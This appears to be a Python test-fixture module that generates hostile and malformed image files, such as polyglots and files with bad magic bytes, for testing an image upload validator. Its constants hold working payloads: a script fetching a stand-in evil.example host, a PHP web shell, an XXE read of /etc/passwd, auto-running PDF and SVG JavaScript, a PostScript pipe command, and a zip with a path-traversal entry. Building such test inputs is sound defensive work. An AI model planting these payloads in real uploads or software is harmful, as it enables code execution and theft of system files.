"""Files that are two things at once, and files that are no picture at all."""

import io
import random
import zipfile
from functools import cache

from PIL import Image

from tests.hostile.good import CANARY, NAMES, good, pixels

SCRIPT = f"<script>fetch('//evil.example/{CANARY}')</script>".encode()
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PHP = f"<?php system($_GET['c']); /* {CANARY} */ ?>".encode()
PDF = f"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('{CANARY}'))>>>>endobj\n%%EOF".encode()
POSTSCRIPT = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id {CANARY}) (w) file\n".encode()
XXE = (
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;{CANARY}</x>'.encode()
)


@cache
def archive() -> bytes:
    """Return a ZIP with a way out of its folder and a lot of nothing."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("../../evil.txt", CANARY)
        made.writestr("zeros", b"\0" * 5_000_000)
    return out.getvalue()


PAYLOADS = (PAGE, DRAWING, PHP, PDF, POSTSCRIPT, XXE, SCRIPT)


def _payload(rng: random.Random) -> bytes:
    return rng.choice((*PAYLOADS, archive()))


def with_tail(rng: random.Random, name: str) -> bytes:
    """Return a good picture that goes on as something else."""
    return good(name) + _payload(rng)


def with_head(rng: random.Random, name: str) -> bytes:
    """Return something else that goes on as a good picture."""
    return _payload(rng) + good(name)


def jpeg_that_is_a_script(rng: random.Random) -> bytes:
    """Return a JPEG whose first comment makes the whole file a script or a page, as browsers once guessed."""
    words = rng.choice((b"*/=1;alert(1)/*", PAGE, PHP))
    comment = b"\xff\xfe" + (len(words) + 2).to_bytes(2, "big") + words
    return b"\xff\xd8" + comment + good("jpeg")[2:]


def bmp_that_is_a_script(_: random.Random) -> bytes:
    """Return a BMP whose size field opens a comment of a script."""
    data = bytearray(good("bmp"))
    data[2:6] = b"/**/"
    return bytes(data) + b"=1;alert(1);//" + CANARY.encode()


def gif_that_is_a_script(_: random.Random) -> bytes:
    """Return the classic GIF."""
    return b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert('" + CANARY.encode() + b"');//;"


@cache
def _other(kind: str) -> bytes:
    out = io.BytesIO()
    Image.fromarray(pixels()).resize((64, 48)).save(out, kind)
    return out.getvalue()


MARKS = (
    b"\0\0\0\x18ftypheic",
    b"\0\0\0\x0cjP  \r\n\x87\n",
    b"8BPS\0\1",
    b"SIMPLE  =                    T",
    b"\x0a\x05\x01\x08",
    b"P6\n9000 9000\n255\n",
    b"DDS \x7c\0\0\0",
    b"icns\0\0\0\x20",
    b"\xd7\xcd\xc6\x9a",
    b"\0\0\0\0\0\0\0\0\0\0\0\0DICM",
    b"\x7fELF",
    b"MZ",
    b"Rar!",
    b"\x1f\x8b\x08",
    b"\x89HDF",
    b"ZISRAWFILE",
)


def no_picture(rng: random.Random) -> bytes:
    """Return another format, text, noise or nothing."""
    act = rng.randrange(6)
    if act == 0:
        return _other(
            rng.choice(("GIF", "WEBP", "ICO", "PPM", "TGA", "PCX", "SGI", "EPS", "PDF", "JPEG2000"))
        )
    if act == 1:
        return rng.choice(MARKS) + rng.randbytes(rng.choice((0, 40, 4_000)))
    if act == 2:
        return rng.randbytes(rng.choice((0, 1, 2, 7, 300, 30_000)))
    if act == 3:
        return _payload(rng)
    if act == 4:
        return bytes([rng.choice((0, 0x20, 0xFF))]) * rng.choice((1, 128, 100_000))
    mark = rng.choice((b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"II*\0", b"MM\0*", b"II+\0", b"BM"))
    return mark + rng.randbytes(rng.choice((0, 1, 8, 60, 3_000)))


def both(rng: random.Random) -> bytes:
    """Return a file of two natures."""
    act = rng.randrange(5)
    if act == 0:
        return jpeg_that_is_a_script(rng)
    if act == 1:
        return rng.choice((bmp_that_is_a_script, gif_that_is_a_script))(rng)
    name = rng.choice(NAMES)
    return with_head(rng, name) if act == 2 else with_tail(rng, name)
